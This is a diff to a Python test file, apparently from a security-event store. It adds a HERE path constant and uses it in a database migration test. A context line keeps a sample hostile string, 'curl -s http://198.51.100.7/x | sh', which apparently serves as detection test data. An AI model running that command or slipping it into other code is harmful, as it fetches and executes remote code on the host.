@@ -38,6 +38,7 @@ if TYPE_CHECKING:
     from flycatcher.sinks.message import Event
 
 LOUD = 'system("curl -s http://198.51.100.7/x | sh")'
+HERE = Path(__file__).parent
 OLD = "2026-01-01T00:00:00.000000Z"
 
 
@@ -249,7 +250,7 @@ def test_the_migrations_make_the_tables_that_the_schema_describes(store: Engine)
 def test_a_store_of_the_first_version_is_brought_up_to_date_with_what_is_in_it(tmp_path: Path) -> None:
     """The file was written by the first version; every later one opens it."""
     old = tmp_path / "store.db"
-    old.write_bytes((Path(__file__).parent / "store-0001.db").read_bytes())
+    old.write_bytes((HERE / "store-0001.db").read_bytes())
     engine = open_store(f"store://{old}")
     assert [(row["interpreter"], row["host"]) for row in page(engine, "level>=medium text~curl").rows] == [
         ("perl", "builder-7")
